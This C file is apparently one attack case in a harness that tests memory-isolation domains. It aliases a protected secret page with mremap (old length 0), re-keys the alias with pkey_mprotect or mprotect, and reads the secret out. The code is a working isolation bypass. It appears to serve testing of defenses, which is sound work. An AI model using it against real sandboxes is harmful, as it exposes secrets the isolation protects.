/* C6: mremap with an old length of 0 maps shared memory a second time. The alias has
 * the domain's key but not its seal, and is then given another key. Against domains of
 * shared memory (the bare one here lies in a memory file; a hardened one in
 * memfd_secret).
 *
 * Source: [mremap(2)]; own trials.
 */
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"
#include "pages.h"

static void back_by_file(void) {
    int fd = pages_share_with_file(1);
    if (fd >= 0) close(fd);
}

static void alias(void) {
    void *second = mremap((void *)target.secret, 0, PAGE_BYTES, MREMAP_MAYMOVE);
    TRY("mremap", second == MAP_FAILED ? -1 : 0);
    if (target.pku) TRY("pkey_mprotect", syscall(SYS_pkey_mprotect, second, PAGE_BYTES, PROT_READ, 0));
    else TRY("mprotect", syscall(SYS_mprotect, second, PAGE_BYTES, PROT_READ));
    attack_hand_in(second, SECRET_BYTES);
}

const struct attack attacks[] = {
    {.variant = "old-len-0", .while_open = back_by_file, .attack = alias},
    {0},
};
